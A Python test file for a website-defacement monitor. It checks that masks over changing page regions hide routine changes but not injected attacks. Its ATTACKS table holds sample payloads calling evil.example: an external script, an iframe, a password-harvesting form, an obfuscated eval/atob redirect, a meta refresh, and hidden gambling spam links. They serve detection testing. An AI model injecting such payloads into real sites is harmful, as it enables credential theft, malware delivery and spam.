"""Masks in a comparison: what moves inside is left out, an attack inside is not, nor anything outside."""

import time
from dataclasses import replace
from datetime import timedelta

import pytest

from defacewatch.captures import Box, Look, Picture
from defacewatch.compare import compare, extract
from defacewatch.compare.outside import Region, outside_of, regions_of
from defacewatch.masks import Apart, Mask, Masked, Rectangle, blocks_of, masked_by, on_grid
from defacewatch.profiles import Profile
from defacewatch.signals import Kind, Role, Signal
from defacewatch.verdicts import CHANGED_AT, VerdictKind, judge
from tests.compare.portal import NOW, baseline_of, kinds, one, png, portal, render_of, screenshot
from tests.compare.screens import picture

AD = (
    '<div class="promo"><h3>Tuyên truyền</h3><p>Phòng chống dịch bệnh mùa mưa lũ năm nay cần sự chung tay của'
    " mỗi gia đình, mỗi thôn xóm và các đoàn thể, giữ sạch nguồn nước và nhà cửa sau ngập</p></div>"
)
OTHER = (
    '<div class="promo"><table><tr><td><b>Hội thi</b></td><td><i>Tìm hiểu pháp luật giao thông đường bộ dành'
    " cho học sinh trung học, gửi bài qua bưu điện trước cuối tháng mười, giải là xe đạp</i></td></tr>"
    "</table><blockquote>Thời gian nhận bài từ ngày mai</blockquote></div>"
)
APPROVED = render_of(portal(end=AD))
BASELINE = baseline_of(APPROVED)
PROMO = "html/body/div.promo"
SLIDER = on_grid(Rectangle(80, 240, 640, 320))
MASK = Mask("mau", SLIDER, "băng rôn", "an", NOW, NOW + timedelta(days=30), "0", (PROMO,), id=7)


def masked(look: Look, mask: Mask = MASK) -> Masked:
    blocks = blocks_of([mask])
    apart = Apart(blocks, outside_of(look, blocks), {"0": outside_of(APPROVED, blocks)})
    found = masked_by((mask,), apart)
    assert found is not None
    return found


def signals(look: Look, mask: Mask | None = MASK) -> tuple[Signal, ...]:
    return compare(BASELINE, Profile("mau"), look, extract(look), masked(look, mask) if mask else None)


def points(found: tuple[Signal, ...], *wanted: Kind) -> float:
    return sum(signal.points for signal in found if signal.kind in wanted)


def test_a_page_as_approved_says_nothing_under_a_mask() -> None:
    assert signals(APPROVED) == ()


def test_what_moves_inside_a_mask_is_left_out_and_a_note_says_so() -> None:
    look = render_of(portal(end=OTHER), picture=screenshot(slider="#20a040"))
    assert kinds(signals(look, None)) >= {Kind.SCREEN, Kind.TEXT, Kind.STRUCTURE}
    found = signals(look)
    assert {signal.role for signal in found} == {Role.NOTE}
    notes = {str(signal.evidence["kind"]): signal for signal in found if signal.kind is Kind.MASKED}
    assert {"screen", "text", "structure"} <= notes.keys()
    assert notes["screen"].evidence["masks"] == [7]
    assert notes["screen"].sentence(str).startswith("left out by a mask (7): screen, 0")


def test_what_changes_outside_is_told_as_ever() -> None:
    look = render_of(portal(end=AD), picture=screenshot(banner="#101040", slider="#20a040"))
    assert one(signals(look), Kind.SCREEN).points >= 5
    gone = render_of(portal(news=("Thông báo khác hẳn", "Tin nữa về việc khác"), content="", end=AD))
    assert points(signals(gone), Kind.TEXT, Kind.STRUCTURE) >= points(
        signals(gone, None), Kind.TEXT, Kind.STRUCTURE
    )
    assert judge(signals(render_of("<h1>khác</h1>"))).score >= CHANGED_AT


ATTACKS = {
    "words": "<h1>Hacked by Test Crew</h1>",
    "script": '<script src="https://evil.example/x.js"></script>',
    "frame": '<iframe src="https://evil.example/" width="600" height="400"></iframe>',
    "form": '<form action="https://evil.example/in"><input name="u"><input type="password" name="p"></form>',
    "hidden links": '<div style="display:none">'
    + "".join(f'<a href="https://nha-cai-{n}.example/">nhà cái uy tín</a>' for n in range(8))
    + "</div>",
    "code": "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='));location='https://evil.example/'</script>",
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_evidence_of_attack_is_hidden_by_a_mask(attack: str) -> None:
    look = render_of(portal(end=AD.replace("<p>", f"{attack}<p>")), picture=screenshot(slider="#000000"))
    bare, found = signals(look, None), signals(look)
    evidence = [signal for signal in bare if signal.role in (Role.EVIDENCE, Role.REPLACEMENT)]
    assert evidence
    assert evidence == [s for s in found if s.role in (Role.EVIDENCE, Role.REPLACEMENT)]
    assert judge(found).evidence == judge(bare).evidence


def test_only_looks_text_and_structure_can_be_left_out() -> None:
    hidden = {Kind.SCREEN, Kind.COLOUR, Kind.PICTURES, Kind.TEXT, Kind.STRUCTURE, Kind.VISIBLE_TEXT}
    attacks = "".join(ATTACKS.values())
    look = render_of(portal(end=AD.replace("<p>", attacks)), picture=screenshot(slider="#000000"))
    bare, found = signals(look, None), signals(look)
    for kind in Kind:
        if kind not in hidden | {Kind.MASKED}:
            assert points(bare, kind) == points(found, kind), kind
    assert judge(found).kind is VerdictKind.DEFACED


def test_a_block_that_grows_over_the_page_hides_nothing() -> None:
    flood = "".join(f"<p>Bài số {n} nói về chuyện thứ {n} của làng {n % 7} xã {n % 5}</p>" for n in range(80))
    many = " ".join(f"từ{chr(97 + n % 26)}{chr(97 + n // 26)} câu chuyện dài" for n in range(400))
    look = render_of(portal(end=f'<div class="promo">{flood}<p>{many}</p></div>'))
    bare = points(signals(look, None), Kind.TEXT, Kind.STRUCTURE)
    assert bare > 0
    assert points(signals(look), Kind.TEXT, Kind.STRUCTURE) == bare


def test_without_the_rests_of_both_looks_only_the_picture_is_masked() -> None:
    look = render_of(portal(end=OTHER), picture=screenshot(slider="#20a040"))
    apart = Apart(frozenset({"html/body/other"}), outside_of(look, ()), {})
    found = compare(BASELINE, Profile("mau"), look, extract(look), masked_by((MASK,), apart))
    assert points(found, Kind.TEXT) == points(signals(look, None), Kind.TEXT) > 0
    assert points(found, Kind.SCREEN) == 0


def test_what_lies_outside_of_blocks_is_what_the_document_has_without_them() -> None:
    features, rest = extract(APPROVED).served, outside_of(APPROVED, [PROMO]).served
    assert rest.paths < features.paths
    assert rest.words < features.words
    assert 0 < rest.share < 0.4
    assert outside_of(APPROVED, ["html/body/div.other"]).served.share == 0
    assert outside_of(APPROVED, ["html/body"]).served.share > 0.9
    nested = outside_of(APPROVED, [PROMO, f"{PROMO}/p"]).served
    assert nested.words == rest.words


def test_pictures_inside_a_mask_are_not_compared() -> None:
    place = (Picture("main>img", "https://mau.gov.vn/anh.jpg", 0, 240, 800, 320),)
    before = render_of(portal(), picture=png(picture()), pictures=place)
    after = render_of(portal(), picture=screenshot(slider="#20a040"), pictures=place)
    baseline, whole = baseline_of(before), replace(MASK, blocks=())
    found = compare(baseline, Profile("mau"), after, extract(after))
    less = compare(baseline, Profile("mau"), after, extract(after), masked_by((whole,), None))
    assert points(found, Kind.PICTURES) > 0
    assert points(less, Kind.PICTURES) == 0


def test_blocks_are_named_as_the_comparison_names_them() -> None:
    boxes = (
        Box(-1, "body", "", "trang-chu page-17", 0, 0, 1280, 2000),
        Box(0, "div", "main", "", 0, 100, 1280, 900),
        Box(1, "section", "x7", "news active", 0, 100, 640, 300),
        Box(9, "div", "", "", 0, 0, 500, 500),  # whose parent was not told
        Box(1, "div", "", "speck", 0, 0, 4, 4),
    )
    look = render_of(portal(), boxes=boxes)
    found = regions_of(look)
    assert found[1] == Region("html/body.page-.trang-chu/div#main", Rectangle(0, 100, 1280, 900))
    assert len(found) == 3
    html = (
        '<body class="trang-chu page-17"><div id="main"><section id="x7" class="news active">'
        "<p>một hai ba bốn</p>"
    )
    cut = outside_of(render_of(html), [found[2].path])
    assert cut.served.share > 0, found[2].path


def test_a_page_with_masks_costs_a_comparison_more_and_others_nothing() -> None:
    look = render_of(portal(end=OTHER))
    features, both = extract(look), masked(look)
    began = time.process_time()
    for _ in range(5):
        compare(BASELINE, Profile("mau"), look, features, both)
    assert (time.process_time() - began) / 5 < 0.2
